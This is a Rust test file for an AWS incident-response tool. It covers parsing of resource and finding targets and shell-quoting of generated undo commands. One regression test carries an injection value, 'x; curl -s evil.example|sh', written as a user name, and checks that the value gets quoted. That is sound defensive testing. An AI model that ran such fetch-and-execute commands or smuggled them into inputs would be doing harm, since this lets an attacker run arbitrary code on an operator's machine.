use super::*;

#[test]
fn targets_parse_and_actions_apply_only_where_they_fit() {
    assert_eq!(
        Target::parse("i-0abc").unwrap(),
        Target::Instance("i-0abc".into())
    );
    assert_eq!(
        Target::parse("i-0abc:sg-1,sg-2").unwrap(),
        Target::InstanceGroups("i-0abc".into(), vec!["sg-1".into(), "sg-2".into()])
    );
    assert_eq!(
        Target::parse("AKIA4EXAMPLELEAKED01").unwrap(),
        Target::AccessKey("AKIA4EXAMPLELEAKED01".into())
    );
    assert_eq!(
        Target::parse("arn:aws:iam::1:user/ci-deploy").unwrap(),
        Target::User("ci-deploy".into())
    );
    assert_eq!(
        Target::parse("role/Admin").unwrap(),
        Target::Role("Admin".into())
    );
    assert_eq!(
        Target::parse("s3://acme-backups/").unwrap(),
        Target::Bucket("acme-backups".into())
    );
    assert_eq!(
        Target::parse("finding/det1/f1").unwrap(),
        Target::Finding {
            id: "f1".into(),
            detector: Some("det1".into())
        }
    );
    assert!(Target::parse("nonsense").is_err());
    let sc = Target::parse_scoped("arn:aws:iam::222233334444:user/ci-deploy").unwrap();
    assert_eq!(sc.target, Target::User("ci-deploy".into()));
    assert_eq!(sc.account.as_deref(), Some("222233334444"));
    let sc = Target::parse_scoped("arn:aws:ec2:eu-west-1:222233334444:instance/i-0abc").unwrap();
    assert_eq!(sc.target, Target::Instance("i-0abc".into()));
    assert_eq!(sc.region.as_deref(), Some("eu-west-1"));
    let sc = Target::parse_scoped("arn:aws:s3:::acme-backups").unwrap();
    assert_eq!(
        (sc.target, sc.account),
        (Target::Bucket("acme-backups".into()), None)
    );
    let sc =
        Target::parse_scoped("arn:aws:guardduty:us-east-1:111122223333:detector/d1/finding/f1")
            .unwrap();
    assert_eq!(
        sc.target,
        Target::Finding {
            id: "f1".into(),
            detector: Some("d1".into())
        }
    );
    assert!(Target::parse_scoped("arn:aws:iam::12:user/x").is_err());
    assert_eq!(Target::parse_scoped("i-1").unwrap().account, None);
    let inst = Target::Instance("i-1".into());
    assert!(Action::Isolate.applies(&inst));
    assert!(!Action::DeactivateKey.applies(&inst));
    assert_eq!(
        Action::for_target(&Target::AccessKey("AKIAXXXXXXXXXXXXXXXX".into())),
        vec![Action::DeactivateKey, Action::ActivateKey]
    );
    for a in Action::ALL {
        assert_eq!(Action::from_name(a.name()), Some(*a));
    }
}

#[test]
fn security_hub_and_access_analyzer_findings_parse_from_their_arn_and_id() {
    let hub = Target::parse_scoped(
        "securityhub:arn:aws:securityhub:us-east-1::product/aws/guardduty|arn:aws:guardduty:us-east-1:1:detector/d/finding/f",
    )
    .unwrap();
    assert_eq!(
        hub.target,
        Target::HubFinding {
            id: "arn:aws:guardduty:us-east-1:1:detector/d/finding/f".into(),
            product_arn: "arn:aws:securityhub:us-east-1::product/aws/guardduty".into()
        }
    );
    let aa = Target::parse("accessanalyzer:arn:aws:access-analyzer:us-east-1:1:analyzer/a|5e6f")
        .unwrap();
    assert_eq!(aa.id(), "5e6f");
    assert!(Action::ArchiveAccess.applies(&aa) && !Action::Archive.applies(&aa));
    assert!(Target::parse("securityhub:|x").is_err());
    // Bound to the finding's own account and region, as a GuardDuty finding's ARN is.
    let hub = Target::parse_scoped(
        "securityhub:arn:aws:securityhub:eu-west-1::product/aws/guardduty|arn:aws:guardduty:eu-west-1:222233334444:detector/d/finding/f",
    )
    .unwrap();
    assert_eq!(
        (hub.account.as_deref(), hub.region.as_deref()),
        (Some("222233334444"), Some("eu-west-1"))
    );
    let aa = Target::parse_scoped(
        "accessanalyzer:arn:aws:access-analyzer:us-east-2:111122223333:analyzer/a|5e6f",
    )
    .unwrap();
    assert_eq!(
        (aa.account.as_deref(), aa.region.as_deref()),
        (Some("111122223333"), Some("us-east-2"))
    );
}

/// Hostile review of issue 34 (session 20): a user name from a record reached the plan's
/// `undo:` shell line unquoted (`x; curl …|sh; echo` ran when pasted).
#[test]
fn undo_lines_keep_record_names_one_shell_word() {
    assert_eq!(sh("svc-backup2"), "svc-backup2");
    assert_eq!(
        sh("arn:aws:iam::aws:policy/AdministratorAccess"),
        "arn:aws:iam::aws:policy/AdministratorAccess"
    );
    assert_eq!(
        sh("x; curl -s evil.example|sh"),
        "'x; curl -s evil.example|sh'"
    );
    assert_eq!(sh("it's"), "'it'\\''s'");
    assert_eq!(sh(""), "''");
    let ctx = plan::PlanCtx {
        account: Some("111122223333".into()),
        region: "us-east-1".into(),
        ..Default::default()
    };
    let evil = Target::User("svc-backup2 --policy-name x; curl -s evil.example|sh; echo".into());
    let p = plan::plan(Action::QuarantineUser, &evil, &ctx).unwrap();
    assert!(
        p.undo.contains("--user-name 'svc-backup2 --policy-name x; curl -s evil.example|sh; echo' --policy-name"),
        "{}",
        p.undo
    );
}
